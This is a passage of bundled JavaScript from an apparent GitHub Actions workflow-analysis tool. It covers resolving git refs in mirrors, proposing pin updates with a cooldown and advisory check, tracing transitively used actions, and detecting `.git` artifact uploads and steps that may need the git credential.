        const answer = await this.ask(slug, "show-ref", "--dereference");
        if (!answer)
            return null;
        // `show-ref` ends with 1 where there are no refs at all.
        if (answer.status > 1)
            throw unreadable(slug, answer.stderr);
        const collector = new RefCollector();
        for (const line of answer.stdout.split("\n")) {
            const space = line.indexOf(" ");
            if (space > 0)
                collector.add(line.slice(space + 1), line.slice(0, space));
        }
        return collector.refs;
    }
    async reachabilityOf(slug, commit) {
        const places = ["refs/heads", "refs/tags"];
        const answer = await this.ask(slug, "for-each-ref", "--count=1", `--contains=${commit}`, "--format=x", ...places);
        if (!answer)
            return "unknown";
        // A commit that isn't there at all is an error to git.
        if (answer.status === 0 && answer.stdout !== "")
            return "reachable";
        // A shallow mirror has no history to look in.
        return (0,external_node_fs_.existsSync)((0,external_node_path_.join)(this.bareOf(slug), "shallow")) ? "unknown" : "unreachable";
    }
    async fileAt(slug, commit, path) {
        const object = `${commit}:${path}`;
        const size = await this.ask(slug, "cat-file", "-s", object);
        if (!size)
            return undefined;
        if (size.status !== 0)
            return null;
        requireSmall(slug, path, Number(size.stdout));
        const blob = await this.ask(slug, "cat-file", "blob", object);
        return blob?.status === 0 ? blob.stdout : null;
    }
    aboutOf = async () => undefined;
    advisoriesOn = async () => undefined;
    /** A mirror knows no releases: the commit's committer date stands for them. */
    async releaseTimeOf(slug, _tag, commit) {
        const answer = await this.ask(slug, "cat-file", "commit", commit);
        const seconds = /^committer .*> (\d{1,12}) [+-]\d{4}$/m.exec(answer?.stdout ?? "")?.[1];
        return seconds === undefined ? undefined : { time: Number(seconds) * 1000, isImmutable: false };
    }
    async ask(slug, ...args) {
        const bare = this.bareOf(slug);
        if (bare === undefined)
            return null;
        try {
            return await git(bare, ...args);
        }
        catch (error) {
            throw unreadable(slug, (0,action_kit_lib/* messageOf */.bD)(error));
        }
    }
    /** GitHub's names have no case, folders may. */
    bareOf({ owner, repo }) {
        const exact = (0,external_node_path_.join)(this.folder, owner, `${repo}.git`);
        if ((0,external_node_fs_.existsSync)(exact))
            return exact;
        const ownerFolder = sameName(this.folder, owner);
        const bare = ownerFolder && sameName((0,external_node_path_.join)(this.folder, ownerFolder), `${repo}.git`);
        return bare && (0,external_node_path_.join)(this.folder, ownerFolder, bare);
    }
}
function sameName(folder, wanted) {
    const lower = wanted.toLowerCase();
    if (!(0,external_node_fs_.statSync)(folder).isDirectory())
        return undefined;
    return (0,external_node_fs_.readdirSync)(folder)
        .sort()
        .find((name) => name.toLowerCase() === lower);
}
function unreadable(slug, said) {
    const reason = `git can't read it: ${said.trim().split("\n")[0] ?? ""}`;
    return new action_kit_lib/* UserError */.yo(`mirror of ${nameOfSlug(slug)}`, reason, "mirror it again");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/locked-pins.js
/**
 * What the repository's `actions.lock` says that a ref comes to, whichever workflow it was locked for: it was looked up and
 * reviewed once. Null where nothing is known, or nothing sound.
 */
function lockedPin(lock, target) {
    const entry = lock?.entryFor(target);
    if (!entry || entry.flaw || entry.commit === null)
        return null;
    return { kind: "commit", commit: entry.commit, name: target.ref, isBranch: false, source: "lock" };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/updates.js


/** Of that many newer versions the age is asked for; below them an update would be no more than a step. */
const MOST_CANDIDATES = 20;
const DAY = 86_400_000;
/** Finds the newest version that a pin may become. */
class Updater {
    origin;
    refs;
    policy;
    constructor(origin, refs, policy) {
        this.origin = origin;
        this.refs = refs;
        this.policy = policy;
    }
    /**
     * @param name what the pin's comment calls it, or nothing
     * @throws UserError when something that is needed fails
     */
    async find(target, name) {
        const refs = await this.refs.ask(target);
        if (!refs)
            return { kind: "newest" };
        const head = name === undefined ? undefined : refs.branches.get(name);
        if (name !== undefined && head !== undefined && !refs.tags.has(name))
            return this.toHead(target, name, head);
        const current = this.refs.versionAt(refs, target.ref, name) ?? (name === undefined ? undefined : parseVersionTag(name));
        if (!current)
            return { kind: "held", why: "nothing says which version it is" };
        return this.toVersion(target, refs, current);
    }
    async toHead(target, branch, head) {
        if (head === target.ref.toLowerCase())
            return { kind: "newest" };
        const young = await this.youth(target, null, head);
        return young === null ? { kind: "newer", commit: head, name: branch } : { kind: "held", why: `${branch} ${young}` };
    }
    async toVersion(target, refs, current) {
        const candidates = newerThan(current, [...refs.tags.keys()], this.policy.level).slice(0, MOST_CANDIDATES);
        const held = [];
        let ripe = null;
        for (const { tag } of candidates) {
            const young = await this.youth(target, tag, refs.tags.get(tag));
            if (young === null)
                ripe = tag;
            if (ripe !== null)
                break;
            held.push({ tag, young: young });
        }
        if (ripe === null || held.length > 0) {
            const needed = await this.neededNow(target, current, ripe, held.map(({ tag }) => tag));
            ripe = needed ?? ripe;
        }
        if (ripe !== null)
            return { kind: "newer", commit: refs.tags.get(ripe), name: ripe };
        const [first] = held;
        return first ? { kind: "held", why: `${first.tag} ${first.young}` } : { kind: "newest" };
    }
    /** The newest version that is too young but mends what nothing old enough does: waiting would be the greater risk. */
    async neededNow(target, current, ripe, young) {
        if (young.length === 0 || (ripe !== null && (await this.mends(target, current, ripe))))
            return null;
        for (const tag of young)
            if (await this.mends(target, current, tag))
                return tag;
        return null;
    }
    /** Why a version is too young, or null. */
    async youth(target, tag, commit) {
        if (this.policy.cooldown === 0)
            return null;
        const release = await this.origin.releaseTimeOf(slugOf(target), tag, commit);
        if (!release)
            return "has no date";
        const age = this.policy.now() - release.time;
        if (age >= this.policy.cooldown)
            return null;
        return `is ${days(Math.max(0, age))} old, and ${days(this.policy.cooldown)} are asked for`;
    }
    /** Does a version mend what an advisory says of the one in use? Then waiting is the greater risk. */
    async mends(target, current, tag) {
        const version = parseVersionTag(tag);
        const advisories = (await this.origin.advisoriesOn(slugOf(target), current.numbers.join("."))) ?? [];
        return advisories.some(({ fixedIn }) => {
            const fixed = fixedIn === null ? undefined : parseVersionTag(fixedIn);
            return fixed && version && compareVersions({ ...version, tag: "" }, { ...fixed, tag: "" }) >= 0;
        });
    }
}
function days(milliseconds) {
    const count = Math.floor(milliseconds / DAY);
    return `${count} ${count === 1 ? "day" : "days"}`;
}
/**
 * Versions of the same family that are newer and within the level, the newest first: full versions where there are any,
 * and pre-releases only for who has one.
 */
function newerThan(current, tags, level) {
    const family = versionTagsOf(tags).filter(({ prefix, prerelease }) => prefix === current.prefix && (prerelease === "" || current.prerelease !== ""));
    const precision = Math.max(0, ...family.map(({ numbers }) => numbers.length));
    return family
        .filter(({ numbers }) => numbers.length === precision)
        .filter((version) => isWithin(current, version, level) && isNewer(version, current))
        .sort((a, b) => compareVersions(b, a));
}
/** `v2` stands for all of 2, so that `v2.1.0` is no newer than it. */
function isNewer(version, current) {
    const numbers = version.numbers.slice(0, current.numbers.length);
    return compareVersions({ ...version, numbers, tag: "" }, { ...current, tag: "" }) > 0;
}
const KEPT = { major: 0, minor: 1, patch: 2 };
function isWithin(current, version, level) {
    return Array.from({ length: KEPT[level] }, (_, i) => i).every((i) => (current.numbers[i] ?? 0) === (version.numbers[i] ?? 0));
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/index.js + 2 modules
var yaml = __webpack_require__(8164);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/pulled-in.js





const NOTHING = { pinned: [], mutable: [] };
/**
 * What the action or reusable workflow at a commit pulls in by itself.
 *
 * @throws UserError when a file can't be got
 * @see Metadata syntax for GitHub Actions, "runs for composite actions" and "runs for Docker container actions"
 */
async function readPulledIn(origin, target) {
    const isWorkflow = /^\.github\/workflows\/[^/]+\.ya?ml$/i.test(target.path);
    return isWorkflow ? readWorkflow(origin, target) : readAction(origin, target);
}
async function readWorkflow(origin, target) {
    const text = await origin.fileAt(slugOf(target), target.ref, target.path);
    const { root, document } = await parsed(target, target.path, text);
    if (!root)
        return NOTHING;
    return gathered(target, new model/* Workflow */.Wu(document, root).jobs.flatMap(namedByJob));
}
async function readAction(origin, target) {
    const folder = target.path === "" ? "" : `${target.path}/`;
    for (const name of ["action.yml", "action.yaml"]) {
        const text = await origin.fileAt(slugOf(target), target.ref, folder + name);
        if (text === null || text === undefined)
            continue;
        const { root, document } = await parsed(target, folder + name, text);
        return root ? readModel(origin, target, folder, (0,model/* actionOf */.qj)(document, root)) : NOTHING;
    }
    return readDockerfile(origin, target, `${folder}Dockerfile`);
}
async function readModel(origin, target, folder, action) {
    if (action.kind === "composite")
        return gathered(target, action.steps.flatMap(namedByStep));
    if (action.kind !== "docker" || !action.image)
        return NOTHING;
    const image = action.image.value;
    if (image.startsWith("docker://"))
        return gathered(target, [(0,model/* parseImage */.zZ)(image.slice("docker://".length))]);
    return readDockerfile(origin, target, (0,model/* normalizePath */.Fd)(folder + image));
}
async function readDockerfile(origin, target, path) {
    const text = await origin.fileAt(slugOf(target), target.ref, path);
    if (text === null || text === undefined)
        return NOTHING;
    const { readDockerfile: read } = await Promise.all(/* import() */[__webpack_require__.e(839), __webpack_require__.e(658)]).then(__webpack_require__.bind(__webpack_require__, 5658));
    const result = read(new lib/* SourceFile */.sC(path, text));
    return result.ok
        ? gathered(target, result.dockerfile.images.map(({ image }) => image))
        : NOTHING;
}
async function parsed(slug, path, text) {
    const document = await (0,yaml/* parseYaml */.hN)(new lib/* SourceFile */.sC(`${nameOfSlug(slug)}/${path}`, text ?? ""));
    return { document, root: document.root?.kind === "map" ? document.root : undefined };
}
function namedByJob(job) {
    if (job.kind === "reusable")
        return [job.uses.target];
    const images = job.containers.flatMap(({ image }) => (image ? [(0,model/* parseImage */.zZ)(image.value)] : []));
    return [...images, ...job.steps.flatMap(namedByStep)];
}
function namedByStep({ uses }) {
    return uses ? [uses.target] : [];
}
function gathered(from, named) {
    const pinned = [];
    const mutable = [];
    for (const thing of named) {
        const target = "kind" in thing ? thing : { kind: "docker", image: thing };
        if (target.kind === "docker") {
            if (isMutable(target.image))
                mutable.push(`docker://${target.image.text}`);
        }
        else if (target.kind === "repository") {
            if ((0,model/* isCommit */.WM)(target.ref))
                pinned.push(target);
            else
                mutable.push(written(target));
        }
        else if (target.kind === "local") {
            const own = inSameRepository(from, target);
            if (own)
                pinned.push(own);
        }
    }
    return { pinned, mutable };
}
/** An expression may be anything; who calls gives it. */
function isMutable(image) {
    return image.name !== "" && !["digest", "unknown"].includes((0,model/* pinningOf */.fM)(image));
}
/**
 * `$/path`, and a reusable workflow's `./.github/workflows/…`, are of the same commit. Any other `./path` is looked for in
 * the workspace of who calls.
 */
function inSameRepository(from, target) {
    const isOwn = target.base === "repository" || target.path.startsWith(".github/workflows/");
    return isOwn ? { ...from, path: target.path } : null;
}
function written({ owner, repo, path, ref }) {
    return `${[owner, repo, path].filter((part) => part !== "").join("/")}@${ref}`;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/transitive.js





/** GitHub runs composite actions ten levels deep. */
const DEPTH = 10;
/** Who pulls in more wants to be slow. */
const MOST_FILES = 1000;
/** What pinned actions and reusable workflows pull in, down to the leaves. */
class Transitive {
    origin;
    files = new Answers();
    seen = new Set();
    constructor(origin) {
        this.origin = origin;
    }
    /** @throws UserError when a file can't be got, or there is no end of them */
    async load(targets) {
        let level = targets;
        for (let depth = 0; depth <= DEPTH && level.length > 0; depth++) {
            const fresh = new Map(level.filter(isPlainTarget).map((target) => [keyOf(target), target]));
            for (const key of fresh.keys())
                if (this.seen.has(key))
                    fresh.delete(key);
            for (const key of fresh.keys())
                this.seen.add(key);
            if (this.seen.size > MOST_FILES)
                throw tooMany(targets);
            const next = [];
            await inParallel(fresh, async ([key, target]) => {
                next.push(...(await this.files.ask(key, () => readPulledIn(this.origin, target))).pinned);
            });
            level = next;
        }
    }
    /** The actions below one, by the first way that leads to each, itself first. */
    reachedFrom(target) {
        const reached = [];
        const seen = new Set();
        const queue = [{ target, above: [] }];
        // There may be more ways than anybody could walk, so each action counts once.
        for (const { target: next, above } of queue) {
            const key = keyOf(next);
            const file = this.files.get(key);
            if (!file || seen.has(key) || above.length > DEPTH)
                continue;
            seen.add(key);
            const through = [...above, key];
            reached.push({ target: next, through, file });
            for (const below of file.pinned)
                queue.push({ target: below, above: through });
        }
        return reached;
    }
    /** A way from an action to each thing that isn't pinned. */
    chainsFrom(target) {
        return this.reachedFrom(target).flatMap(({ through, file }) => file.mutable.map((leaf) => ({ through, leaf })));
    }
}
function keyOf(target) {
    return `${(0,model/* nameOf */.Vb)(target)}@${target.ref.toLowerCase()}`;
}
function tooMany([first]) {
    const place = first ? (0,model/* nameOf */.Vb)(first) : "actions";
    return new action_kit_lib/* UserError */.yo(place, `actions pull in more than ${MOST_FILES} others`, "look at what these actions are, or leave them out with `exclude`");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/verification.js



/** What tells whether pins can be trusted; it is asked for ahead of a judgement. */
class Verification {
    origin;
    refs;
    reachability = new Answers();
    abouts = new Answers();
    advisories = new Answers();
    transitive;
    constructor(origin, refs) {
        this.origin = origin;
        this.refs = refs;
        this.transitive = new Transitive(origin);
    }
    /** @param versions the references whose version is known, pinned or not */
    async load(pins, versions) {
        const repositories = new Map([...pins, ...versions].map(({ target }) => [keyOfSlug(target), target]));
        await inParallel(repositories, ([key, target]) => this.abouts.ask(key, () => this.origin.aboutOf(slugOf(target))));
        await inParallel(pins, (pin) => this.loadReachability(pin));
        await inParallel(versions, ({ target, version }) => this.advisories.ask(keyOfVersion(target, version), () => this.origin.advisoriesOn(slugOf(target), version.numbers.join("."))));
        await this.transitive.load(pins.map(({ target }) => target).filter((target) => this.isKnown(target)));
    }
    async loadReachability({ target, name }) {
        const refs = this.refs.of(target);
        if (!refs)
            return;
        const commit = target.ref.toLowerCase();
        await this.reachability.ask(keyOfCommit(target), async () => {
            const tips = [...refs.tags.values(), ...refs.branches.values(), ...refs.tagObjects.keys()];
            if (tips.includes(commit))
                return "reachable";
            return this.origin.reachabilityOf(slugOf(target), commit, refs, name === undefined ? [] : [name]);
        });
    }
    /** What isn't there has no files either. */
    isKnown(target) {
        return isPlainTarget(target) && this.refs.of(target) !== null;
    }
    reachabilityOf(target) {
        return this.reachability.get(keyOfCommit(target));
    }
    aboutOf(target) {
        return this.abouts.get(keyOfSlug(target));
    }
    advisoriesOn(target, version) {
        return this.advisories.get(keyOfVersion(target, version)) ?? [];
    }
    /** The actions that a pinned one pulls in, each with the way to it. */
    reachedFrom(target) {
        return this.transitive.reachedFrom(target).slice(1);
    }
    chainsFrom(target) {
        return this.transitive.chainsFrom(target);
    }
}
function keyOfVersion(target, { numbers }) {
    return `${keyOfSlug(target)}@${numbers.join(".")}`;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/version-comment.js
/**
 * The forms in which tools write versions: `# v4`, `#v4.1`, `# tag=v4`, `# pin@v4`, `# ratchet:owner/repo@v4`,
 * `# renovate: tag=v4`, `# @v4`; but in `# @scope/name@1.2.0` the `@` is the tag's. Text behind the version, and the
 * punctuation before it, is the author's own. (No ref holds a colon.)
 */
const COMMENT = /^#[ \t]*(?:(?:renovate:[ \t]*)?tag=|pin@|ratchet:[^\s@]+@|@(?![^\s:]*@))?([^\s:]+?)(?=[,;.]*(?:[\s:]|$))/;
/** Looks like a version. */
const VERSION_WORD = /^(?:@?[\w./-]*[@/_-])?v?\d+(?:\.\d+)*(?:[-+][\w.-]+)?$/i;
/** `# 3 retries`, `# 2024-01-02`: numbers of another kind. */
const NO_VERSION = /^\d+$|^\d{4}-\d{1,2}-\d{1,2}/;
/** Longer words are nobody's version, and made to be slow. */
const MAX_VERSION = 256;
/** Null where no comment can stand behind the scalar: in flow style, and in scalars of several lines. */
function restOfLine(scalar) {
    const { text } = scalar.file;
    if (scalar.isBlock || text.slice(scalar.start, scalar.end).includes("\n"))
        return null;
    const match = /^([ \t]*)(#[^\r\n]*)?(?=[\r\n]|$)/.exec(text.slice(scalar.end, version_comment_endOfLine(text, scalar.end)));
    if (!match)
        return null;
    const [, space = "", comment] = match;
    // Without white space before it a `#` is no comment.
    if (comment !== undefined && space === "")
        return null;
    const start = scalar.end + space.length;
    return { start: scalar.end, comment: comment === undefined ? null : { start, end: start + comment.length } };
}
function version_comment_endOfLine(text, from) {
    let at = from;
    while (at < text.length && text[at] !== "\n" && text[at] !== "\r")
        at++;
    return at;
}
/** The word of a comment that says, in one of those forms, what is pinned; it may be any word that an author wrote. */
function commentWord(scalar) {
    const comment = restOfLine(scalar)?.comment;
    if (!comment)
        return null;
    const match = COMMENT.exec(scalar.file.text.slice(comment.start, comment.end));
    const version = match?.[1];
    if (!match || version === undefined || version.length > MAX_VERSION)
        return null;
    const start = comment.start + match[0].length - version.length;
    return { version, span: { start, end: start + version.length } };
}
/** The version that the comment behind a `uses:` names. */
function versionComment(scalar) {
    const word = commentWord(scalar);
    return word && VERSION_WORD.test(word.version) && !NO_VERSION.test(word.version) ? word : null;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/upstream.js








/**
 * What is known of the repositories that workflows use. It is asked for ahead of a judgement, each thing once a run; rules
 * then only look it up.
 */
class Upstream {
    options;
    refs;
    verification;
    updater;
    updates = new Answers();
    releases = new Answers();
    /**
     * `owner/repo@version` → the commit that pins of the repository under judgement give for it; null where they don't agree.
     */
    pins = new Map();
    lock = null;
    digests = new Answers();
    /** Images that somebody wanted to know of before they were asked for. */
    wanted = new Map();
    constructor(options) {
        this.options = options;
        const { origin, verify, update } = options;
        this.refs = new KnownRefs(origin);
        this.verification = origin && verify ? new Verification(origin, this.refs) : null;
        this.updater = origin && update ? new Updater(origin, this.refs, update) : null;
    }
    /**
     * Asks for what a repository's references name.
     *
     * @throws UserError when something that is needed can't be found out
     */
    async load(repository) {
        const { isAsked = () => true, pins, origin } = this.options;
        const references = repository.uses().filter(isAsked).flatMap(referenceOf);
        this.lock = repository.lock;
        // What one repository pins says nothing of another.
        this.pins.clear();
        const pinned = references.filter(({ target }) => (0,model/* isCommit */.WM)(target.ref));
        for (const { target, name } of pinned)
            if (name !== undefined)
                this.learnPin(target, name);
        if (!origin)
            return;
        const locked = this.verification ? lockedPins(repository.lock) : [];
        const wanted = pins ? references : references.filter((one) => !pinned.includes(one));
        await this.refs.load([...wanted, ...locked].map(targetOf));
        await this.loadReleases(origin, references);
        await this.loadUpdates(pinned);
        await this.verification?.load([...pinned, ...locked], references.flatMap(({ target, name }) => this.withVersion(target, name)));
    }
    async loadUpdates(pinned) {
        const { updater } = this;
        if (!updater)
            return;
        await inParallel(pinned, ({ target, name }) => this.updates.ask(keyOfPin(target, name), () => updater.find(target, name)));
    }
    async loadReleases(origin, references) {
        if (!this.options.releases)
            return;
        await inParallel(references, async ({ target }) => {
            const commit = this.refs.of(target)?.tags.get(target.ref);
            if (commit === undefined)
                return;
            await this.releases.ask(keyOfRef(target), () => origin.releaseTimeOf(slugOf(target), target.ref, commit));
        });
    }
    withVersion(target, name) {
        const version = this.versionOf(target, name);
        return version ? [{ target, version }] : [];
    }
    learnPin(target, name) {
        const key = `${keyOfSlug(target)}@${name}`;
        const commit = target.ref.toLowerCase();
        const known = this.pins.get(key);
        this.pins.set(key, known === undefined || known === commit ? commit : null);
    }
    /** What a tag or branch is today. */
    resolve(target) {
        if (!isPlainTarget(target))
            return { kind: "no-repository" };
        if (!isPossibleRef(target.ref))
            return { kind: "no-ref" };
        const refs = this.refs.of(target);
        if (refs === null)
            return { kind: "no-repository" };
        return refs ? this.resolveIn(refs, target.ref) : (lockedPin(this.lock, target) ?? this.resolveByPin(target));
    }
    resolveIn(refs, ref) {
        const tag = refs.tags.get(ref);
        const branch = refs.branches.get(ref);
        if (tag !== undefined && branch !== undefined)
            return { kind: "ambiguous" };
        if (branch !== undefined)
            return { kind: "commit", commit: branch, name: ref, isBranch: true, source: "refs" };
        if (tag === undefined)
            return { kind: "no-ref" };
        const name = mostPreciseTag(this.refs.tagsAt(refs, tag), ref);
        return { kind: "commit", commit: tag, name, isBranch: false, source: "refs" };
    }
    resolveByPin(target) {
        const commit = this.pins.get(`${keyOfSlug(target)}@${target.ref}`);
        if (commit === undefined || commit === null)
            return { kind: "unknown" };
        return { kind: "commit", commit, name: target.ref, isBranch: false, source: "pins" };
    }
    /** The newest release of a repository, whatever its family; undefined when there is none, or nobody knows. */
    newestRelease(target) {
        const refs = this.refs.of(target);
        const releases = versionTagsOf([...(refs?.tags.keys() ?? [])]).filter(({ prerelease }) => prerelease === "");
        const [best] = [
            ...releases.filter(({ prefix }) => isFamilyOf(prefix, target.path)),
            ...releases.filter(({ prefix }) => prefix === ""),
            ...releases,
        ];
        return best && { commit: refs?.tags.get(best.tag), name: best.tag };
    }
    /**
     * The tag of a version, however it is written there; a full version before a pre-release of it.
     *
     * @param version `1.0.1`
     */
    tagOfVersion(target, version) {
        const refs = this.refs.of(target);
        const wanted = parseVersionTag(version);
        const found = versionTagsOf([...(refs?.tags.keys() ?? [])]).find(({ numbers, prerelease }) => prerelease === wanted?.prerelease && numbers.join(".") === wanted.numbers.join("."));
        return found && { commit: refs?.tags.get(found.tag), name: found.tag };
    }
    /** All refs of a repository; null when there is none, undefined when nobody knows. */
    refsOf(target) {
        return isPlainTarget(target) ? this.refs.of(target) : null;
    }
    /** The tags that lead to a pinned commit; undefined when nobody knows. */
    tagsOn(target) {
        const refs = this.refs.of(target);
        return refs ? this.refs.tagsAt(refs, target.ref) : undefined;
    }
    /** What the comment behind a reference calls it: a version, or a branch or tag that there is. */
    nameOn(uses, target) {
        const word = commentWord(uses.scalar)?.version;
        const refs = this.refs.of(target);
        const isRef = word !== undefined && (refs?.tags.has(word) || refs?.branches.has(word));
        return isRef ? word : versionComment(uses.scalar)?.version;
    }
    /** What a reference's version is, by the tags on its commit, else by what it is called. */
    versionOf(target, name) {
        const refs = this.refs.of(target);
        const called = (0,model/* isCommit */.WM)(target.ref) ? name : target.ref;
        const commit = (0,model/* isCommit */.WM)(target.ref) ? target.ref : refs?.tags.get(target.ref);
        const known = refs && commit !== undefined ? this.refs.versionAt(refs, commit, called) : undefined;
        return known ?? (called === undefined ? undefined : parseVersionTag(called));
    }
    reachabilityOf(target) {
        return this.verification?.reachabilityOf(target);
    }
    aboutOf(target) {
        return this.verification?.aboutOf(target);
    }
    advisoriesOn(target, version) {
        return this.verification?.advisoriesOn(target, version) ?? [];
    }
    /** The actions that a pinned one pulls in, each with the way to it. */
    reachedFrom(target) {
        return this.verification?.reachedFrom(target) ?? [];
    }
    /** The ways by which a pinned action comes to something that isn't pinned. */
    chainsFrom(target) {
        return this.verification?.chainsFrom(target) ?? [];
    }
    updateOf(uses, target) {
        return this.updates.get(keyOfPin(target, commentWord(uses.scalar)?.version));
    }
    /**
     * The digest of an image's tag; null when there is no such image. What isn't known yet is asked for by the next
     * `answer`.
     */
    digestOf(image) {
        const known = this.digests.get(image.text);
        if (known === undefined && this.options.digestOf)
            this.wanted.set(image.text, image);
        return known;
    }
    /**
     * Asks for what was wanted and not known.
     *
     * @returns whether more is known now
     * @throws UserError when it can't be found out
     */
    async answer() {
        const { digestOf } = this.options;
        const wanted = [...this.wanted.values()];
        this.wanted.clear();
        if (!digestOf || wanted.length === 0)
            return false;
        await inParallel(wanted, (image) => this.digests.ask(image.text, () => digestOf(image)));
        return true;
    }
    /** Is a tag that of a release which can't be changed any more? */
    isImmutable(target) {
        return this.releases.get(keyOfRef(target))?.isImmutable === true;
    }
}
function referenceOf(uses) {
    const { target } = uses;
    if (target.kind !== "repository" || !isPlainTarget(target) || !isPossibleRef(target.ref))
        return [];
    return [{ target, name: commentWord(uses.scalar)?.version }];
}
/** `toolkit/v1.0.0`, `toolkit-v1` and `toolkit@1` are versions of what stands at `actions/toolkit`. */
function isFamilyOf(prefix, path) {
    const name = path.slice(path.lastIndexOf("/") + 1).toLowerCase();
    return name !== "" && (prefix.replace(/[/@_-]+$/, "") === name || prefix.replace(/\/$/, "") === path.toLowerCase());
}
/** The commits of the lock's entries, by the refs that they were locked for. */
function lockedPins(lock) {
    return [...(lock?.dependencies.values() ?? [])].flatMap(({ name: { target }, commit }) => target && commit !== null && isPlainTarget(target)
        ? [{ target: { ...target, ref: commit }, name: target.ref }]
        : []);
}
function targetOf({ target }) {
    return target;
}
function keyOfPin(target, name) {
    return `${keyOfCommit(target)} ${name ?? ""}`;
}
function keyOfRef(target) {
    return `${keyOfSlug(target)}@${target.ref}`;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/used-version.js



/**
 * The version that a `uses:` asks for, major first and as precise as it is written: its tag's, or the one in the comment
 * behind a commit. Null where neither tells.
 */
function usedVersion({ target, scalar }) {
    if (target.kind !== "repository")
        return null;
    const tag = (0,model/* isCommit */.WM)(target.ref) ? versionComment(scalar)?.version : target.ref;
    const version = tag === undefined ? undefined : parseVersionTag(tag);
    return version?.prefix === "" ? version.numbers : null;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/index.js








;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/artifact-uploads.js


/** Null for other steps, and where hidden files surely stay out. */
function artifactUploadOf(step) {
    if (!step.uses?.is("actions/upload-artifact"))
        return null;
    const path = step.input("path")?.value;
    const takesHidden = takesHiddenFiles(step);
    if (path?.kind !== "scalar" || takesHidden === false)
        return null;
    const lines = path.value.split("\n").map((line) => line.trim());
    if (lines.some((line) => /^!.*\.git\b/.test(line)))
        return null;
    const patterns = lines.filter((line) => line !== "" && !line.startsWith("!"));
    return { folders: patterns.map(uploadedFolder), isSure: takesHidden === true };
}
/**
 * Undefined where that isn't known.
 *
 * @see Releases of actions/upload-artifact 3.2.0 and 4.4.0: hidden files stay out unless `include-hidden-files` asks for them
 */
function takesHiddenFiles(step) {
    const version = step.uses && usedVersion(step.uses);
    if (version && cannotLeaveOut(version))
        return true;
    const asked = step.input("include-hidden-files")?.value;
    if (asked?.kind === "scalar" && !asked.isNull) {
        return (0,model/* expressionsIn */.l$)(asked).length > 0 ? undefined : asked.value.trim().toLowerCase() === "true";
    }
    // `v3` is frozen on GitHub Enterprise Server, at whatever it was.
    return version && !(version[0] === 3 && version.length === 1) ? false : undefined;
}
/** A major version alone means its newest release. */
function cannotLeaveOut([major = 0, minor = Number.POSITIVE_INFINITY]) {
    return major < 3 || (major === 3 && minor < 2) || (major === 4 && minor < 4);
}
/** `./site/**` → `site`, `*` and `.git` → `.`: the folder whose whole content, or whose `.git`, a pattern takes. */
function uploadedFolder(pattern) {
    const inWorkspace = pattern.replace(/^\$\{\{\s*github\.workspace\s*\}\}/i, ".");
    const parts = (0,model/* normalizePath */.Fd)(inWorkspace)
        .split("/")
        .filter((part) => part !== "");
    dropWildcards(parts);
    if (parts.at(-1) === "config" && parts.at(-2) === ".git")
        parts.pop();
    if (parts.at(-1) === ".git")
        parts.pop();
    dropWildcards(parts);
    // What lies above the workspace holds it.
    return parts.every((part) => part === "..") ? "." : parts.join("/");
}
function dropWildcards(parts) {
    while (/^\*+$/.test(parts.at(-1) ?? ""))
        parts.pop();
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/shell/index.js + 29 modules
var lib_shell = __webpack_require__(7436);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/git-credential.js

/**
 * May a step need the credential that a checkout left for git? What a local action does counts as the step's. In doubt it
 * may: a release that no longer gets its tags pushed is worse than a fix that somebody looks at first.
 */
function mayNeedGitCredential(step, repository) {
    const { uses, run } = step;
    if (run)
        return run.scalar.mayMatch(HINT) && scriptMayPush(run);
    if (!uses)
        return false;
    if (inputsAskForPush(step))
        return true;
    if (uses.target.kind === "local")
        return localActionMayPush(uses, repository);
    const name = uses.text.split("@")[0]?.toLowerCase() ?? "";
    return uses.target.kind === "repository" && PUSHING_ACTION.test(name) && !OWN_TOKEN.test(name);
}
/** An input that is a script with `git push` in it, or that switches pushing on (`git-push: true`). */
function inputsAskForPush(step) {
    return (step.map.map("with")?.entries ?? []).some(({ key, value }) => {
        if (value.kind !== "scalar")
            return false;
        const isSwitch = /push/i.test(key.value) && !/^(?:false|no|off|0|)$/i.test(value.value.trim());
        // `docker/build-push-action` pushes images, not commits.
        return (isSwitch && key.value.toLowerCase() !== "push") || asksInText(value.value);
    });
}
/** An action that isn't in the repository, such as one in a folder that another checkout fills, may do anything. */
function localActionMayPush(uses, repository) {
    const action = repository.resolve(uses);
    if (!action)
        return true;
    return [...repository.reachableFrom(action)].some((unit) => unit.kind === "composite" &&
        unit.steps.some((step) => step.uses?.target.kind !== "local" && mayNeedGitCredential(step, repository)));
}
/** What actions that may push with the credential that the checkout left are called for. */
const PUSHING_ACTION = /backport|branch|bump|changeset|commit|deploy|gh-pages|merge|publish|pull-request|push|release|sync|tag|version/;
/** Their names say so, but they don't push, or they ask for a token of their own. */
const OWN_TOKEN = /^(?:actions\/|docker\/|goreleaser\/|pypa\/|softprops\/)/;
/** What tasks and scripts that push are called for. */
const PUSHING_WORD = /backport|bump|commit|deploy|gh-pages|publish|push|release|shipit|sync|version/i;
/** Commands that run `git push` themselves, wherever they are named: programs start them, too. */
const PUSHING_TOOL = /\b(?:semantic-release|release-it|release-plz|gh-pages|ghp-import|gh-deploy|mike\s+deploy|cargo\s+release|changeset\s+(?:publish|tag|version)|lerna\s+(?:publish|version))\b/;
const ASKS_REMOTE = /\b(?:push|fetch|pull|ls-remote|submodule|clone|remote|lfs)\b/;
const ASKS_REMOTE_ITSELF = /\bgit-lfs\b|\bgh\s+(?:pr\s+checkout|repo\s+sync)\b/;
/** Most scripts hold none of these and needn't be read. */
const HINT = new RegExp(`\\bg(?:it|h)\\b|\\bhub\\b|ghp-import|mike|changeset|lerna|${PUSHING_WORD.source}`, "i");
function scriptMayPush({ script }) {
    // What isn't there with the comments isn't there without them, and to find them takes a walk through the script.
    if (!asksInText(script.text) && !mayRunTask(script.text))
        return false;
